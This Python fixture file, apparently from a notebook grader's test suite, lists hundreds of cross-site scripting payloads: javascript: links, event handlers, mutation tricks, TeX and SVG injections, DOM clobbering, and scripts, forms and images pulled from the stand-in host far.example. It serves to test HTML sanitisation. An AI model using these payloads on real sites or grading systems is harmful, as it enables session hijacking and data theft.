"""Things that a student could write to act in the browser of who grades, kind by kind.

The kinds are those of OWASP's XSS filter evasion cheat sheet, and of the test collections of bleach, ammonia (nh3),
DOMPurify and nbconvert; the notebook's own ones were added. `FAR` is a host that nobody may ask for anything.
"""

import base64

import nbformat

FAR = "http://far.example"
SVG = (
    f"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'><script>alert(1)</script><image href='{FAR}/a'/></svg>"
)
PAGE = base64.b64encode(b"<script>alert(1)</script>").decode()
GIF = "R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7"
COVER = "position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999"

# Text of a Markdown cell.
MARKDOWN = {
    # Links in Markdown
    "link": "[x](javascript:alert(1))",
    "link, escaped colon": r"[x](javascript\:alert(1))",
    "link, all escaped": r"[x](javascript\:alert\(1\))",
    "link, reference": "[x][a]\n\n[a]: javascript:alert(1)",
    "link, reference, escaped": "[x][a]\n\n[a]: javascript\\:alert(1)",
    "link, reference, shortcut": "[a]\n\n[a]: <javascript\\:alert(1)> 'title'",
    "link, angle brackets": "[x](<javascript:alert(1)>)",
    "link, mixed case": "[x](JaVaScRiPt:alert(1))",
    "link, decimal entity": "[x](java&#115;cript:alert(1))",
    "link, hexadecimal entity": "[x](&#x6A;avascript:alert(1))",
    "link, long entity": "[x](&#0000106;avascript:alert(1))",
    "link, named entity": "[x](javascript&colon;alert(1))",
    "link, entity of an entity": "[x](javascript&amp;colon;alert(1))",
    "link, tab": "[x](java&Tab;script:alert(1))",
    "link, new line": "[x](java&NewLine;script:alert(1))",
    "link, control character": "[x](&#1;javascript:alert(1))",
    "link, blank before": "[x](&#32;javascript:alert(1))",
    "link, comment first": "[x](javascript://%0aalert(1))",
    "link, vbscript": "[x](vbscript:msgbox(1))",
    "link, data": f"[x](data:text/html;base64,{PAGE})",
    "link, data in SVG": f"[x](data:image/svg+xml;base64,{PAGE})",
    "link, file": "[x](file:///etc/passwd)",
    "link, view-source": "[x](view-source:http://course.test/)",
    "link, title": "[x](javascript\\:alert(1) '\"onmouseover=alert(1)')",
    "link, in an image": "[![x](y)](javascript\\:alert(1))",
    "link, in a heading": "# [x](javascript\\:alert(1))",
    "link, in a table": "|a|\n|-|\n|[x](javascript\\:alert(1))|",
    "link, in a quoted list": "> * [x](javascript\\:alert(1))",
    "link, elsewhere": f"[x]({FAR}/tab)",
    "link, without a scheme": f"[x]({FAR.removeprefix('http:')}/tab)",
    "link, backslashes": f"[x](\\\\\\\\{FAR.removeprefix('http://')}/tab)",
    "link, the server's API": "[x](/api/contents?type=notebook)",
    "link, the server's terminals": "[x](../../terminals/1)",
    "link, log out": "[x](/logout)",
    "link, the next submission": "[x](next)",
    "autolink": "<javascript:alert(1)>",
    "autolink, elsewhere": f"<{FAR}/tab>",
    "autolink, bare": f"see {FAR}/tab there",
    # Pictures in Markdown
    "picture": f"![x]({FAR}/pixel.png)",
    "picture, script": "![x](javascript:alert(1))",
    "picture, reference": f"![x][a]\n\n[a]: {FAR}/pixel.png",
    "picture, attribute": '![x](y"onerror="alert(1))',
    "picture, text": '![" onerror="alert(1)](y)',
    "picture, title": "![x](y '\" onerror=\"alert(1)')",
    "picture, the server's": "![x](/logout)",
    # HTML in Markdown
    "script": "<script>alert(1)</script>",
    "script, mixed case": "<ScRiPt>alert(1)</sCrIpT>",
    "script, from elsewhere": f"<script src={FAR}/x.js></script>",
    "script, nested": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "script, doubled bracket": "<<script>alert(1);//<</script>",
    "script, module": f"<script type=module>import '{FAR}/x.js'</script>",
    "script, unclosed": "<script>alert(1)",
    "script, slash": "<script/x>alert(1)</script>",
    "script, after an entity": "&lt;script&gt;alert(1)&lt;/script&gt;",
    "script, in a formula": "$<script>alert(1)</script>$",
    "script, in a block of formulas": "$$\n<script>alert(1)</script>\n$$",
    "script, in an environment": "\\begin{a}<script>alert(1)</script>\\end{a}",
    "script, as an environment's name": "\\begin{equation*}<img src=x onerror=alert(1)>\\end{equation*}",
    "script, in code": "`<script>alert(1)</script>`",
    "script, in a fence": "```html\n<script>alert(1)</script>\n```",
    "script, as a language": '```"><script>alert(1)</script>\nx\n```',
    "script, as mermaid": "```mermaid\n</pre><script>alert(1)</script>\n```",
    "handler, image": "<img src=x onerror=alert(1)>",
    "handler, no space": "<img/src=x/onerror=alert(1)>",
    "handler, unclosed": "<img src=x onerror=alert(1)//",
    "handler, back quotes": "<img src=`x` onerror=alert(1)>",
    "handler, quoted quotes": '<img """><script>alert(1)</script>">',
    "handler, encoded": "<img src=x onerror=&#97;lert(1)>",
    "handler, details": "<details open ontoggle=alert(1)>x</details>",
    "handler, focus": "<input autofocus onfocus=alert(1)>",
    "handler, video": "<video><source onerror=alert(1)></video>",
    "handler, audio": "<audio src=x onerror=alert(1)></audio>",
    "handler, body": "<body onload=alert(1)>",
    "handler, pageshow": "<body onpageshow=alert(1)>",
    "handler, animation": "<style>@keyframes a{}</style><b style='animation-name:a' onanimationstart=alert(1)>x</b>",
    "handler, click": "<b onclick=alert(1)>x</b>",
    "handler, unknown element": "<x onclick=alert(1)>x</x>",
    "anchor": '<a href="javascript:alert(1)">x</a>',
    "anchor, entity": '<a href="javascript&colon;alert(1)">x</a>',
    "anchor, broken word": '<a href="java\tscript:alert(1)">x</a>',
    "anchor, control characters": '<a href="\x01javascript:alert(1)">x</a>',
    "anchor, in a block": "<div>\n\n[x](javascript\\:alert(1))\n\n</div>",
    "anchor, new tab": f'<a href="{FAR}/tab" target="_blank" rel="opener">x</a>',
    "anchor, ping": f'<a href="#x" ping="{FAR}/ping">x</a>',
    "anchor, download": "<a href='data:text/html,x' download='x.html'>x</a>",
    "map": '<map name=m><area shape=default href="javascript:alert(1)"></map><img usemap="#m" src=x>',
    "SVG": SVG,
    "SVG, handler": "<svg/onload=alert(1)>",
    "SVG, anchor": '<svg><a xlink:href="javascript:alert(1)"><text y=20>x</text></a></svg>',
    "SVG, animation": "<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>",
    "SVG, set": '<svg><a><set attributeName=href to="javascript:alert(1)"/><text y=20>x</text></a></svg>',
    "SVG, foreign object": "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'></foreignObject></svg>",
    "SVG, use": f"<svg><use href='data:image/svg+xml;base64,{PAGE}#x'/></svg>",
    "SVG, image": f"<svg><image href='{FAR}/pixel.png'/></svg>",
    "MathML, anchor": '<math href="javascript:alert(1)"><mtext>x</mtext></math>',
    "MathML, xlink": '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
    "mutation, mglyph": '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    "mutation, two forms": "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "mutation, SVG's style": '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    "mutation, noscript": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "mutation, title": "<title><img src=x onerror=alert(1)></title>",
    "mutation, textarea": '<textarea></textarea><img src=x onerror="alert(1)"></textarea>',
    "mutation, xmp": '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
    "mutation, template": "<template><img src=x onerror=alert(1)></template>",
    "mutation, select": "<select><option><style></option></select><img src=x onerror=alert(1)></style>",
    "comment": "<!--><img src=x onerror=alert(1)>-->",
    "comment, odd end": "<!-- --!><img src=x onerror=alert(1)> -->",
    "comment, conditional": "<!--[if true]><script>alert(1)</script><![endif]-->",
    "comment, unclosed": "<!-- the rest of the page is gone",
    "CDATA": "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "declaration": "<!DOCTYPE x><img src=x onerror=alert(1)>",
    "processing instruction": "<?xml x?><img src=x onerror=alert(1)>",
    "frame": '<iframe src="javascript:alert(1)"></iframe>',
    "frame, srcdoc": "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "frame, elsewhere": f"<iframe src='{FAR}/frame'></iframe>",
    "frame, data": f"<iframe src='data:text/html;base64,{PAGE}'></iframe>",
    "object": f"<object data='data:text/html;base64,{PAGE}'></object>",
    "embed": f"<embed src='{FAR}/x.svg'>",
    "portal": f"<link rel=prerender href={FAR}/a><link rel=prefetch href={FAR}/b>",
    "meta refresh": f"<meta http-equiv=refresh content='0;url={FAR}/gone'>",
    "meta refresh, script": "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "base": f"<base href='{FAR}/'><img src=a.png>",
    "base, target": f"<base href='{FAR}/' target=x>\n\n[x](y)",
    "stylesheet": f"<link rel=stylesheet href={FAR}/x.css>",
    "style, import": f"<style>@import '{FAR}/x.css';</style>",
    "style, url": f"<style>body {{ background: url({FAR}/x.png) }}</style>",
    "style, attribute's url": f"<b style='background:url({FAR}/x.png)'>x</b>",
    "style, list": f"<ul style='list-style-image:url({FAR}/x.png)'><li>x</ul>",
    "style, cover": f"<a href='{FAR}/tab' style='{COVER}'>x</a>",
    "style, cover of a table's cell": f"<table><td style='text-align:left;{COVER}'>x</table>",
    "classes, cover": f"<a href='{FAR}/tab' class='navbar-fixed-top modal in' style='display:block'>x</a>",
    "background": f"<table background='{FAR}/x.png'><tr><td>x</table>",
    "source set": f"<img srcset='{FAR}/x.png 1x'>",
    "poster": f"<video poster='{FAR}/x.png'></video>",
    "picture element": f"<picture><source srcset='{FAR}/x.png'><img></picture>",
    "image, SVG": f'<img src="data:image/svg+xml;base64,{base64.b64encode(SVG.encode()).decode()}">',
    "form": f"<form action='{FAR}/form'><button>x</button></form>",
    "form, script": "<form action='javascript:alert(1)'><input type=submit></form>",
    "form, formaction": f"<form><button formaction='{FAR}/form'>x</button></form>",
    "form, formaction with a script": "<form><button formaction='javascript:alert(1)'>x</button></form>",
    "form, image": f"<form action='{FAR}/form'><input type=image src='{FAR}/x.png'></form>",
    "form, isindex": "<isindex type=submit action='javascript:alert(1)'>",
    "clobbering, names": "<form name=MathJax><input name=Hub></form><img name=base_url><img name=formgrader>",
    "clobbering, ids": "<a id=submission_id></a><a id=base_url href=//far.example></a><b id=answer_why>x</b>",
    "clobbering, document": "<img name=getElementById><img name=querySelector><img name=body><img name=cookie>",
    "unclosed attribute": '<a href="javascript:alert(1)',
    "unclosed elements": "</div></div></div></main></body></html><script>alert(1)</script>",
    "NUL": "<scr\x00ipt>alert(1)</scr\x00ipt><img src=x one\x00rror=alert(1)>",
    "other brackets": "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    # Formulas
    "TeX, href": r"$\href{javascript:alert(1)}{x}$",
    "TeX, href elsewhere": rf"$\href{{{FAR}/tab}}{{x}}$",
    "TeX, require": r"$\require{html}\href{javascript:alert(1)}{x}$",
    "TeX, style": rf"$\style{{{COVER};background:url({FAR}/x.png)}}{{x}}$",
    "TeX, class": r"$\class{navbar-fixed-top}{x}$",
    "TeX, cssId": r"$\cssId{answer_why}{x}$",
    "TeX, unicode": r"$\unicode[x;onload=alert(1)]{x41}$",
    "TeX, includegraphics": rf"$\includegraphics{{{FAR}/x.png}}$",
    "TeX, attribute": r'$\color{"onclick=alert(1) x="}{x}\operatorname{" onload="alert(1)}$',
    "TeX, text": r"$\text{</mtext></math><img src=x onerror=alert(1)>}$",
    "TeX, in a picture's text": '![$"onerror="alert(1)"$](x)',
    "TeX, in a link": r"[$x$](javascript\:alert(1))",
}


def _written(source="x", **more):
    return nbformat.v4.new_markdown_cell(source, **more)


def _notebook(*cells, **metadata):
    made = nbformat.v4.new_notebook(cells=list(cells))
    made.metadata.update(nbformat.from_dict(metadata))
    return made


def _shown(data, **metadata):
    """A notebook whose cell has shown something: what it holds is not checked by nbformat."""
    output = nbformat.v4.new_output(
        "display_data", data=nbformat.from_dict(data), metadata=nbformat.from_dict(metadata)
    )
    return _notebook(nbformat.v4.new_code_cell("1", outputs=[output]))


def _changed(notebook, **values):
    notebook.cells[0].update(nbformat.from_dict(values))
    return notebook


BREAK = '"><script>alert(1)</script><img src=x onerror=alert(1)>'

# Everything else in a notebook that reaches the page.
NOTEBOOKS = {
    "title": lambda: _notebook(_written(), title=f"</title>{BREAK}"),
    "authors": lambda: _notebook(_written(), authors=[{"name": BREAK}]),
    "language": lambda: _notebook(
        nbformat.v4.new_code_cell("x"), language_info={"name": BREAK, "pygments_lexer": BREAK}
    ),
    "kernel": lambda: _notebook(_written(), kernelspec={"name": BREAK, "display_name": BREAK, "language": BREAK}),
    "widgets": lambda: _notebook(
        _written(), widgets={"application/vnd.jupyter.widget-state+json": {"a": f"</script>{BREAK}"}}
    ),
    "tags": lambda: _notebook(nbformat.v4.new_code_cell("x", metadata={"tags": [BREAK]})),
    "cell id": lambda: _changed(_notebook(nbformat.v4.new_code_cell("x")), id=BREAK),
    "execution count": lambda: _changed(_notebook(nbformat.v4.new_code_cell("x")), execution_count=BREAK),
    "grade id": lambda: _notebook(
        _written(metadata={"nbgrader": {"grade_id": BREAK, "grade": True, "solution": True, "points": 5, "score": 1}})
    ),
    "points": lambda: _notebook(
        _written(
            metadata={
                "nbgrader": {
                    "grade_id": "a",
                    "grade": True,
                    "solution": True,
                    "points": "5",
                    "score": 1,
                    "comment": BREAK,
                }
            }
        )
    ),
    "raw cell": lambda: _notebook(nbformat.v4.new_raw_cell(BREAK)),
    "raw cell of HTML": lambda: _notebook(nbformat.v4.new_raw_cell(BREAK, metadata={"raw_mimetype": "text/html"})),
    "raw cell, cover": lambda: _notebook(nbformat.v4.new_raw_cell(f'<a href="{FAR}/tab" id="top">x</a>')),
    "code": lambda: _notebook(nbformat.v4.new_code_cell(f"'''{BREAK}'''")),
    "code, another language": lambda: _notebook(nbformat.v4.new_code_cell(f"%%html\n{BREAK}")),
    "code, magics": lambda: _notebook(nbformat.v4.new_code_cell("x", metadata={"magics_language": BREAK})),
    "attachment of SVG": lambda: _notebook(
        _written("![x](attachment:a)", attachments={"a": {"image/svg+xml": base64.b64encode(SVG.encode()).decode()}})
    ),
    "attachment of HTML": lambda: _notebook(
        _written("[x](attachment:a) ![x](attachment:a)", attachments={"a": {"text/html": PAGE}})
    ),
    "attachment that breaks out": lambda: _notebook(
        _written("![x](attachment:a)", attachments={"a": {"image/png": f"iVBORw0KGgo{BREAK}"}})
    ),
    "attachment's kind": lambda: _notebook(
        _written("![x](attachment:a)", attachments={"a": {f"image/png{BREAK}": GIF}})
    ),
    "attachment's name": lambda: _notebook(
        _written(f"![x](<attachment:{BREAK}>)", attachments={BREAK: {"image/gif": GIF}})
    ),
    "stream": lambda: _notebook(
        nbformat.v4.new_code_cell("1", outputs=[nbformat.v4.new_output("stream", text=f"\x1b[31m{BREAK}\x1b[{BREAK}m")])
    ),
    "stream's name": lambda: _notebook(
        nbformat.v4.new_code_cell("1", outputs=[nbformat.v4.new_output("stream", name="stderr", text=BREAK)])
    ),
    "error": lambda: _notebook(
        nbformat.v4.new_code_cell(
            "1", outputs=[nbformat.v4.new_output("error", ename=BREAK, evalue=BREAK, traceback=[BREAK])]
        )
    ),
    "output of HTML": lambda: _shown({"text/html": BREAK}),
    "output of HTML, isolated": lambda: _shown({"text/html": BREAK}, **{"text/html": {"isolated": True}}),
    "output of JavaScript": lambda: _shown({"application/javascript": "alert(1)"}),
    "output of Markdown": lambda: _shown({"text/markdown": r"[x](javascript\:alert(1))"}),
    "output of SVG": lambda: _shown({"image/svg+xml": SVG}),
    "output of LaTeX": lambda: _shown({"text/latex": BREAK}),
    "output of mermaid": lambda: _shown({"text/vnd.mermaid": f"</pre>{BREAK}"}),
    "output of a widget": lambda: _shown(
        {"application/vnd.jupyter.widget-view+json": {"model_id": f"</script>{BREAK}"}}
    ),
    "output, PNG that breaks out": lambda: _shown({"image/png": BREAK}),
    "output, width of a PNG": lambda: _shown(
        {"image/png": "iVBORw0KGgo="}, **{"image/png": {"width": "1 onerror=alert(1)"}}
    ),
    "output, text for a PNG": lambda: _shown({"image/png": "iVBORw0KGgo="}, **{"image/png": {"alt": f"x{BREAK}"}}),
    "output, file of a PNG": lambda: _shown({"image/png": "iVBORw0KGgo="}, filenames={"image/png": f"{FAR}/x.png"}),
    "output of plain text": lambda: _shown({"text/plain": BREAK}),
}
NOTEBOOKS |= {name: lambda source=source: _notebook(_written(source)) for name, source in MARKDOWN.items()}
